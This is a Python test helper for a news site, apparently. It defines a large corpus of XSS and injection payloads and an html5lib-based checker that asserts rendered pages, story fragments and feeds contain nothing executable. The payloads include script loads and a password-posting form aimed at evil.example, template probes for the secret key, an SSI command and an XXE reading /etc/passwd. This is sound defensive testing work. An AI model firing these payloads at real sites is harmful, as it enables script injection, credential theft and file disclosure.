"""Injection vectors, and the rule that judges what Newsroom shows: nothing executable survives.

`VECTORS` is the corpus the `test_injection_*` files write into every field through every write
path (admin forms, API, importer). Each vector has a short name, so a failure names the attack,
and a category, so a path too slow for the whole corpus can still be given every kind of attack
(`one_per_category`).

`executable_findings` parses HTML as a browser does (html5lib, the WHATWG parser bleach itself
ships, so SVG/MathML foreign content, raw-text elements and mis-nested markup are read the way
an attacker means them to be) and lists everything that could run or navigate: script elements
other than valid JSON data blocks, on* handlers, href/src/action/formaction/... with a scheme
other than http, https or mailto (after the decoding and stripping browsers do), srcdoc, base,
meta refresh, frames, objects, embeds, forms, scripting in styles, and SVG animation that can
rewrite a link. A page's own scripts and forms are told apart from user content by comparing
with the same page showing benign data (`introduced_findings`).
"""

from __future__ import annotations

import json
import re
from collections import Counter
from dataclasses import dataclass

from bleach.html5lib_shim import HTMLParser


@dataclass(frozen=True)
class Vector:
    name: str
    category: str
    payload: str

    def __str__(self) -> str:
        return self.name


def _v(category: str, rows: list[tuple[str, str]]) -> list[Vector]:
    return [Vector(name, category, payload) for name, payload in rows]


VECTORS: list[Vector] = [
    *_v(
        "script",
        [
            ("script-plain", "<script>alert(1)</script>"),
            ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
            ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
            ("script-src", '<script src="https://evil.example/x.js"></script>'),
            ("script-src-protocol-relative", "<script src=//evil.example/x.js></script>"),
            ("script-unclosed", "<script>alert(1)"),
            ("script-space-before-gt", "<script >alert(1)</script >"),
            ("script-slash-attr", "<script/src=data:,alert(1)></script>"),
            ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
            ("script-type-module", '<script type="module">import("//evil.example")</script>'),
            ("script-in-paragraph", "<p>Before <script>alert(1)</script> after</p>"),
            ("script-end-in-string", "<script>var a='</script><script>alert(1)</script>'</script>"),
            ("script-newline-in-tag", "<script\n>alert(1)</script\n>"),
            ("script-xss-double-lt", "<<script>alert(1);//<</script>"),
        ],
    ),
    *_v(
        "event-handler",
        [
            ("img-onerror", '<img src="x" onerror="alert(1)">'),
            ("img-onerror-unquoted", "<img src=x onerror=alert(1)>"),
            ("img-onerror-backtick", "<img src=`x` onerror=`alert(1)`>"),
            ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
            ("img-onerror-newlines", "<img\nsrc=x\nonerror\n=\nalert(1)>"),
            ("body-onload", "<body onload=alert(1)>"),
            ("svg-onload", "<svg onload=alert(1)>"),
            ("svg-slash-onload", "<svg/onload=alert(1)>"),
            ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
            ("p-onclick", '<p onclick="alert(1)">click</p>'),
            ("a-onclick", '<a href="https://example.org/" onclick="alert(1)">link</a>'),
            ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
            ("select-autofocus-onfocus", "<select autofocus onfocus=alert(1)></select>"),
            ("details-ontoggle", "<details open ontoggle=alert(1)>"),
            ("video-source-onerror", "<video><source onerror=alert(1)></video>"),
            ("audio-onerror", "<audio src=x onerror=alert(1)>"),
            ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
            ("body-onpageshow", "<body onpageshow=alert(1)>"),
            ("strong-onpointerenter", '<strong onpointerenter="alert(1)">x</strong>'),
            ("em-onanimationstart", '<em style="animation:x" onanimationstart="alert(1)">x</em>'),
            ("img-onerror-entity", "<img src=x onerror=&#97;lert(1)>"),
            ("img-src-onerror-quotes", "<img src='x'onerror='alert(1)'>"),
        ],
    ),
    *_v(
        "url-scheme",
        [
            ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
            ("href-javascript-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
            ("href-javascript-leading-space", '<a href=" javascript:alert(1)">x</a>'),
            ("href-javascript-tab", '<a href="jav\tascript:alert(1)">x</a>'),
            ("href-javascript-newline", '<a href="java\nscript:alert(1)">x</a>'),
            ("href-javascript-cr", '<a href="java\rscript:alert(1)">x</a>'),
            ("href-javascript-nul", '<a href="java\x00script:alert(1)">x</a>'),
            ("href-javascript-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
            ("href-javascript-entity-tab", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
            ("href-javascript-entity-newline", '<a href="jav&#10;ascript:alert(1)">x</a>'),
            ("href-javascript-named-entity", '<a href="javascript&colon;alert(1)">x</a>'),
            (
                "href-javascript-decimal",
                '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;'
                '&#112;&#116;&#58;alert(1)">x</a>',
            ),
            (
                "href-javascript-decimal-no-semicolon",
                '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
            ),
            (
                "href-javascript-hex",
                '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;'
                '&#x70;&#x74;&#x3A;alert(1)">x</a>',
            ),
            ("href-javascript-zero-padded", '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'),
            ("href-javascript-unquoted", "<a href=javascript:alert(1)>x</a>"),
            ("href-javascript-single-quotes", "<a href='javascript:alert(1)'>x</a>"),
            ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
            ("href-vbscript-upper", '<a href="VBSCRIPT:msgbox(1)">x</a>'),
            ("href-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
            (
                "href-data-base64",
                '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
            ),
            ("href-data-mixed-case", '<a href="DaTa:text/html,<script>alert(1)</script>">x</a>'),
            ("img-src-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
            ("img-src-javascript", '<img src="javascript:alert(1)">'),
            ("href-livescript", '<a href="livescript:alert(1)">x</a>'),
            ("href-javascript-url-encoded", '<a href="javascript%3Aalert(1)">x</a>'),
            ("href-javascript-comment", '<a href="javascript://%0aalert(1)">x</a>'),
            (
                "href-javascript-in-title",
                '<a title="javascript:alert(1)" href="https://e.org/">x</a>',
            ),
            ("text-javascript-url", "javascript:alert(document.cookie)"),
        ],
    ),
    *_v(
        "namespace",
        [
            ("svg-script", "<svg><script>alert(1)</script></svg>"),
            ("svg-script-href", '<svg><script href="data:,alert(1)"/></svg>'),
            ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
            (
                "svg-animate-href",
                '<svg><a><animate attributeName="href" values="javascript:alert(1)"'
                "/><text>x</text></a></svg>",
            ),
            (
                "svg-set-href",
                '<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>',
            ),
            (
                "svg-foreignobject",
                '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>">'
                "</iframe></foreignObject></svg>",
            ),
            ("svg-style-img", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
            (
                "svg-use-external",
                '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
            ),
            ("svg-p-breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
            (
                "math-mtext-table-mglyph",
                "<math><mtext><table><mglyph><style><img src=x onerror="
                "alert(1)></style></mglyph></table></mtext></math>",
            ),
            ("math-href", '<math href="javascript:alert(1)">x</math>'),
            (
                "math-maction",
                '<math><maction actiontype="statusline#x" xlink:href="javascript:'
                'alert(1)">x</maction></math>',
            ),
            (
                "math-annotation-xml",
                '<math><annotation-xml encoding="text/html"><img src=x onerror='
                "alert(1)></annotation-xml></math>",
            ),
            (
                "math-mtext-form",
                "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style>"
                '<a title="</style><img src onerror=alert(1)>"></style></h1>',
            ),
        ],
    ),
    *_v(
        "embedding",
        [
            ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
            ("iframe-srcdoc-entities", '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">'),
            ("iframe-src-javascript", '<iframe src="javascript:alert(1)"></iframe>'),
            ("iframe-unclosed", '<iframe src="https://evil.example/">'),
            ("frameset", "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>"),
            ("object-data", '<object data="javascript:alert(1)"></object>'),
            (
                "object-data-html",
                '<object data="data:text/html,<script>alert(1)</script>"></object>',
            ),
            ("embed-src", '<embed src="javascript:alert(1)">'),
            ("embed-svg", '<embed src="data:image/svg+xml,<svg onload=alert(1)>">'),
            ("applet", '<applet code="x.class" codebase="https://evil.example/"></applet>'),
            ("portal", '<portal src="https://evil.example/"></portal>'),
        ],
    ),
    *_v(
        "form",
        [
            ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
            (
                "button-formaction",
                '<form><button formaction="javascript:alert(1)">x</button></form>',
            ),
            ("input-formaction", '<input type="submit" formaction="javascript:alert(1)">'),
            (
                "form-phishing",
                '<form action="https://evil.example/" method="post">'
                '<input name="password" type="password"></form>',
            ),
            (
                "button-form-attr",
                '<button form="filters" formaction="https://evil.example/">x</button>',
            ),
            ("isindex-action", '<isindex action="javascript:alert(1)" type="image">'),
        ],
    ),
    *_v(
        "document",
        [
            ("base-href", '<base href="https://evil.example/">'),
            ("base-javascript", '<base href="javascript:/">'),
            ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
            (
                "meta-refresh-data",
                '<meta http-equiv="refresh" content="0;url=data:text/html,'
                '<script>alert(1)</script>">',
            ),
            ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="sessionid=x">'),
            ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
            ("link-stylesheet", '<link rel="stylesheet" href="javascript:alert(1)">'),
        ],
    ),
    *_v(
        "style",
        [
            ("style-expression", '<p style="width: expression(alert(1))">x</p>'),
            ("style-url-javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
            ("style-behavior", '<p style="behavior: url(x.htc)">x</p>'),
            (
                "style-moz-binding",
                '<p style="-moz-binding: url(https://evil.example/x.xml#x)">x</p>',
            ),
            ("style-element-import", "<style>@import 'https://evil.example/x.css';</style>"),
            ("style-element-expression", "<style>p{width:expression(alert(1))}</style>"),
            ("style-escaped-expression", '<p style="width: exp/**/ression(alert(1))">x</p>'),
            ("style-unicode-escape", '<p style="background:\\75 rl(javascript:alert(1))">x</p>'),
        ],
    ),
    *_v(
        "mutation",
        [
            ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
            ("title-breakout", "<title><img src=x onerror=alert(1)></title>"),
            ("textarea-breakout", "<textarea><img src=x onerror=alert(1)></textarea>"),
            ("style-breakout", "<style><img src=x onerror=alert(1)></style>"),
            ("xmp-breakout", "<xmp><img src=x onerror=alert(1)></xmp>"),
            ("noembed-breakout", "<noembed><img src=x onerror=alert(1)></noembed>"),
            ("noframes-breakout", "<noframes><img src=x onerror=alert(1)></noframes>"),
            ("iframe-text-breakout", "<iframe><img src=x onerror=alert(1)></iframe>"),
            ("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
            ("template-content", "<template><img src=x onerror=alert(1)></template>"),
            ("listing-breakout", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"),
            ("backtick-attribute", "<a href=`javascript:alert(1)`>x</a>"),
            ("unclosed-img", '<img src="x'),
            ("unclosed-img-onerror", '<img src="x" onerror="alert(1)'),
            ("unclosed-tag-at-end", '<p>story <a href="https://e.org/" onclick=alert(1) '),
            ("unclosed-comment", "<!-- <script>alert(1)</script>"),
            ("comment-gt", "<!--><script>alert(1)</script>-->"),
            ("comment-dash-gt", "<!---><img src=x onerror=alert(1)>-->"),
            ("conditional-comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
            ("comment-in-attribute", '<a title="<!--" href="x">--><img src=x onerror=alert(1)>'),
            ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
            ("cdata-svg", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
            ("bogus-comment", '<? foo="><script>alert(1)</script>">'),
            ("end-tag-attribute", "</p onclick=alert(1)><p>x"),
            ("select-style", "<select><style><img src=x onerror=alert(1)></style></select>"),
            ("table-breakout", "<table><tr><td><img src=x onerror=alert(1)></td></tr></table>"),
            (
                "form-in-form",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            ),
            ("nested-a-entity", '<a href="&#x26;#x6A;avascript:alert(1)">x</a>'),
            ("double-encoded-lt", "&lt;script&gt;alert(1)&lt;/script&gt;"),
            ("double-encoded-amp", "&amp;lt;img src=x onerror=alert(1)&amp;gt;"),
        ],
    ),
    *_v(
        "template",
        [
            ("django-variable", "{{ request.META }}"),
            ("django-tag", "{% debug %}"),
            ("django-settings", "{{ settings.SECRET_KEY }}{% load static %}"),
            ("jinja-arith", "{{7*7}}"),
            ("angular-constructor", "{{constructor.constructor('alert(1)')()}}"),
            ("es-template-literal", "${alert(1)}"),
            ("ssi", '<!--#exec cmd="ls" -->'),
        ],
    ),
    *_v(
        "breakout",
        [
            ("attr-double-quote", '" onmouseover="alert(1)'),
            ("attr-single-quote", "' onmouseover='alert(1)"),
            ("attr-close-tag", '"><script>alert(1)</script>'),
            ("attr-close-single", "'><img src=x onerror=alert(1)>"),
            ("json-script-close", "</script><script>alert(1)</script>"),
            ("json-script-close-upper", "</SCRIPT ><img src=x onerror=alert(1)>"),
            ("json-comment-open", "<!--<script>"),
            ("json-quote-escape", '\\"}]}</script><script>alert(1)</script>'),
            ("json-line-separators", "line\u2028separator\u2029paragraph"),
            ("json-unicode-escape", "\\u003c/script\\u003e<b>x</b>"),
            ("xml-cdata-end", "]]><script>alert(1)</script>"),
            ("xml-entity", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
            ("textarea-close", "</textarea><script>alert(1)</script>"),
            ("title-close", "</title><script>alert(1)</script>"),
            ("style-close", "</style><script>alert(1)</script>"),
            ("ampersand-entities", "Tom &amp; Jerry &lt;b&gt; & <b>bold</b> &#60;i&#62;"),
            ("rtl-override", "Safe\u202etxt.exe\u202c <b>x</b>"),
            ("tab-newline-mix", "A\ttab\nnew line\r\nCRLF <i>x</i>"),
            ("quotes-mix", 'It\'s "quoted" `tick` <q>x</q>'),
            ("cyrillic-script", "Министр <script>alert('Баку')</script> заявил"),
        ],
    ),
]

CATEGORIES = sorted({v.category for v in VECTORS})


def one_per_category() -> list[Vector]:
    """The first vector of each category: every kind of attack, for the slower paths."""
    return first_of_each_category(1)


def first_of_each_category(count: int) -> list[Vector]:
    """The first `count` vectors of each category, in corpus order."""
    taken: dict[str, int] = {}
    chosen = []
    for vector in VECTORS:
        if taken.get(vector.category, 0) < count:
            taken[vector.category] = taken.get(vector.category, 0) + 1
            chosen.append(vector)
    return chosen


# What a browser executes or navigates to, read from a parsed document.

SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "poster",
        "background",
        "cite",
        "codebase",
        "longdesc",
        "lowsrc",
        "dynsrc",
        "manifest",
        "ping",
        "xlink:href",
        "to",
        "values",
        "from",
        "by",
    }
)
FRAMING_ELEMENTS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal", "fencedframe"}
)
# SVG/MathML elements that can turn a link into javascript: or host HTML.
FOREIGN_ACTIVE = frozenset({"animate", "set", "animatemotion", "foreignobject", "handler"})
DATA_SCRIPT_TYPES = frozenset({"application/ld+json", "application/json"})
_ID = re.compile(r"/\d+/")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")
_TAB_OR_NEWLINE = re.compile("[\t\n\r]")
_STYLE_DANGER = re.compile(
    r"expression|javascript|vbscript|behavior|-moz-binding|@import|url\s*\(", re.IGNORECASE
)
_parser = HTMLParser(namespaceHTMLElements=False)
_JSON_LD = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.DOTALL)


def url_scheme(value: str) -> str | None:
    """The scheme a browser reads in a URL attribute (already entity-decoded by the parser):
    leading/trailing C0 controls and spaces stripped, tabs and newlines removed anywhere, then
    lowercased (WHATWG URL). None for a relative URL."""
    cleaned = _TAB_OR_NEWLINE.sub(
        "",
        value.strip(
            "\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b"
            "\x0c\r\x0e\x0f\x10\x11\x12\x13\x14\x15\x16"
            "\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f \ufffd"
        ),
    )
    match = _SCHEME.match(cleaned.lower())
    return match.group(1) if match else None


def _local(tag: str) -> tuple[str, str]:
    """(namespace, local name) of an etree tag, lowercased local name."""
    if tag.startswith("{"):
        namespace, _, name = tag[1:].partition("}")
        return namespace, name.lower()
    return "", tag.lower()


def _attribute_name(name: str) -> str:
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return f"xlink:{local}" if namespace.endswith("xlink") else local.lower()
    return name.lower()


def element_findings(root) -> Counter:
    """Everything executable or navigating under `root` (a parsed html5lib etree)."""
    found: Counter = Counter()
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        namespace, name = _local(element.tag)
        attrs = {_attribute_name(k): v for k, v in element.attrib.items()}
        if name == "script":
            found[_script_finding(element, attrs)] += 1
        if name in FRAMING_ELEMENTS:
            found[f"element:{name}"] += 1
        if name == "form":
            found[f"form:action={attrs.get('action', '')}"] += 1
        if name == "meta" and attrs.get("http-equiv"):
            found[f"meta:http-equiv={attrs['http-equiv'].lower()}"] += 1
        if name == "link" and attrs.get("rel", "").lower() in ("import", "stylesheet", "preload"):
            found[f"link:{attrs['rel'].lower()}:{attrs.get('href', '')}"] += 1
        if name == "style" and _STYLE_DANGER.search("".join(element.itertext())):
            found["style-element:scripting"] += 1
        if namespace and "html" not in namespace and name in FOREIGN_ACTIVE:
            found[f"foreign:{name}"] += 1
        for attr, value in attrs.items():
            if attr.startswith("on"):
                found[f"handler:{name}.{attr}"] += 1
            elif attr == "srcdoc":
                found[f"srcdoc:{name}"] += 1
            elif attr == "style" and _STYLE_DANGER.search(value):
                found[f"style-attribute:{name}"] += 1
            elif attr in URL_ATTRIBUTES:
                scheme = url_scheme(value)
                if scheme is not None and scheme not in SAFE_SCHEMES:
                    found[f"url:{name}.{attr}={scheme}:"] += 1
    return found


def _script_finding(element, attrs: dict[str, str]) -> str:
    kind = attrs.get("type", "").strip().lower()
    content = "".join(element.itertext())
    if kind in DATA_SCRIPT_TYPES and not attrs.get("src"):
        try:
            json.loads(content)
        except ValueError:
            return f"script:{kind}:invalid-json"
        if "</script" in content.lower() or "<!--" in content:
            return f"script:{kind}:breakable"
        return f"script:{kind}"
    if attrs.get("src") and not content.strip():
        return f"script:src={attrs['src']}"
    return f"script:inline:{content.strip()[:60]}"


def parse_document(markup: str):
    return _parser.parse(markup)


def parse_fragment(markup: str):
    return _parser.parseFragment(markup)


def executable_findings(markup: str, *, fragment: bool = False) -> Counter:
    """What could run in `markup`, parsed as a whole page or as a fragment inside a <div>.
    Ids in paths are written as N, so a page compares with the same page of another object."""
    root = parse_fragment(markup) if fragment else parse_document(markup)
    return Counter({_ID.sub("/N/", key): n for key, n in element_findings(root).items()})


def introduced_findings(page: str, baseline: str) -> Counter:
    """What `page` can run that the same page showing benign data (`baseline`) cannot: what
    user content brought in. Counted, so one more form or script than the page's own is seen."""
    return executable_findings(page) - executable_findings(baseline)


def json_ld_blocks(page: str) -> list[object]:
    """The JSON-LD data blocks of a page, parsed; each must be valid JSON that cannot end its
    element early. (The parse in `executable_findings` checks the same of every data block.)"""
    blocks = []
    for content in _JSON_LD.findall(page):
        assert "</script" not in content.lower() and "<!--" not in content, content
        blocks.append(json.loads(content))
    return blocks


# Outputs, judged.

ATOM = "{http://www.w3.org/2005/Atom}"


def read(client, url: str) -> str:
    """A page's text; it must answer 200."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def assert_page_safe(page: str, baseline: str | Counter, where: str) -> None:
    """Nothing runs in `page` that did not run in the same page showing benign data (given as
    the page or its findings), and its JSON-LD is valid JSON that no value can end early."""
    if isinstance(baseline, str):
        baseline = executable_findings(baseline)
    introduced = executable_findings(page) - baseline
    assert not introduced, (where, dict(introduced))
    json_ld_blocks(page)


def assert_fragment_safe(markup: str, where: str) -> None:
    """Stored or served story HTML: nothing executable at all, and sanitising it changes
    nothing (it is a fixed point of the policy)."""
    from articles.html import sanitize_html

    found = executable_findings(markup, fragment=True)
    assert not found, (where, dict(found), markup)
    assert sanitize_html(markup) == markup, where


def assert_escaped(page: str, values: dict[str, str], where: str) -> None:
    """Plain text shows only escaped: a value holding <, > or & never appears raw. (A quote is
    markup only inside an attribute value, where a raw one would end the value and start new
    attributes: the findings see that. Text content may hold quotes as they are, as story
    bodies made from plain text do.) JSON-LD is JSON, not HTML, with its own escaping of <, >
    and &, checked apart."""
    page = _JSON_LD.sub("", page)
    for field, value in values.items():
        if value and any(c in value for c in "<>&"):
            assert value not in page, (where, field, value)


def assert_feed_safe(xml: str, where: str) -> list:
    """A feed is well-formed XML, and its HTML parts (RSS description, Atom summary and
    content) hold nothing executable. Returns the parsed items/entries."""
    import xml.etree.ElementTree as ET

    root = ET.fromstring(xml)
    items = root.findall("./channel/item") or root.findall(f"{ATOM}entry")
    html_parts = [
        *(e.text or "" for e in root.iter("description")),
        *(e.text or "" for e in root.iter(f"{ATOM}summary") if e.get("type") == "html"),
        *(e.text or "" for e in root.iter(f"{ATOM}content") if e.get("type") == "html"),
    ]
    for part in html_parts:
        found = executable_findings(part, fragment=True)
        assert not found, (where, dict(found), part)
    return items
